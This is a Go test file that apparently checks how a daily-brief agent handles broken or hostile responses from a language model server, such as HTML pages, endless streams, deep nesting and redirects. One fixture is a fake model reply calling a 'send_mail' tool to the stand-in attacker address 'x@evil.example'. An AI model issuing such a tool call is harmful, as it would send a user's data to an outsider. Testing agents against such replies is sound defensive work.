package agent

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"daybrief/agent/llm/llmtest"
)

// wires are answers that break the protocol itself. Each is written as it goes
// over the wire.
var wires = map[string]llmtest.Answer{
	"a web page":         raw(200, "<html><body>Sign in to the hotel network</body></html>"),
	"500 in HTML":        raw(500, "<h1>Internal Server Error</h1>"),
	"429":                raw(429, `{"error":"too many requests"}`),
	"no body":            raw(200, ""),
	"done at once":       raw(200, `{"message":{"role":"assistant","content":""},"done":true,"done_reason":"stop"}`+"\n"),
	"never done":         raw(200, line(`{\"tldr\":[{\"text\":\"You won.\",\"items\":[1]}]}`)),
	"done, then more":    raw(200, `{"message":{"content":"{"},"done":true,"done_reason":"stop"}`+"\n"+line("x")),
	"no message":         raw(200, `{"done":true,"done_reason":"stop","response":"You won."}`+"\n"),
	"content a number":   raw(200, `{"message":{"content":7},"done":true}`+"\n"),
	"content an object":  raw(200, `{"message":{"content":{"tldr":[]}},"done":true}`+"\n"),
	"message null":       raw(200, `{"message":null,"done":true}`+"\n"),
	"a tool call":        raw(200, `{"message":{"role":"assistant","content":"","tool_calls":[{"function":{"name":"send_mail","arguments":{"to":"x@evil.example"}}}]},"done":true,"done_reason":"stop"}`+"\n"),
	"junk between lines": raw(200, line("{")+"junk\n"+line("}")),
	"one endless line":   raw(200, `{"message":{"content":"`+strings.Repeat("a", 12<<20)),
	"deep nesting":       raw(200, strings.Repeat(`{"message":`, 100000)),
	"zero bytes":         raw(200, strings.Repeat("\x00", 1<<16)),
	"unloaded":           raw(200, `{"message":{"content":""},"done":true,"done_reason":"load"}`+"\n"),
	"status of an error": raw(200, `{"error":{"message":"object, not a string"}}`+"\n"),
	"moved": func(w http.ResponseWriter, r *http.Request, _ llmtest.Request) {
		http.Redirect(w, r, "/elsewhere", http.StatusTemporaryRedirect)
	},
	"endless thinking": func(w http.ResponseWriter, r *http.Request, _ llmtest.Request) {
		for r.Context().Err() == nil {
			llmtest.Part(w, "", strings.Repeat("hm, ", 500))
		}
	},
	"empty parts for ever": func(w http.ResponseWriter, r *http.Request, _ llmtest.Request) {
		for r.Context().Err() == nil {
			llmtest.Part(w, "", "")
		}
	},
}

func raw(status int, body string) llmtest.Answer {
	return func(w http.ResponseWriter, _ *http.Request, _ llmtest.Request) {
		w.Header().Set("Content-Type", "application/x-ndjson")
		w.WriteHeader(status)
		fmt.Fprint(w, body)
	}
}

func line(content string) string {
	return `{"message":{"role":"assistant","content":"` + content + `"},"done":false}` + "\n"
}

// TestBrokenWires: where the protocol breaks, the brief is word for word the
// rules', and a note says why.
func TestBrokenWires(t *testing.T) {
	plain := makeBrief(t, &Maker{}, testDay(t))
	for name, answer := range wires {
		t.Run(name, func(t *testing.T) {
			r, _ := against(t, shortly, answer)
			same(t, plain, r)
			if len(r.Brief.Notes) == 0 {
				t.Fatal("no note says why the model was not used")
			}
			if n := r.Brief.Notes[len(r.Brief.Notes)-1]; n.Code == "" || n.Text == "" || n.Hint == "" {
				t.Errorf("note = %+v", n)
			}
		})
	}
}
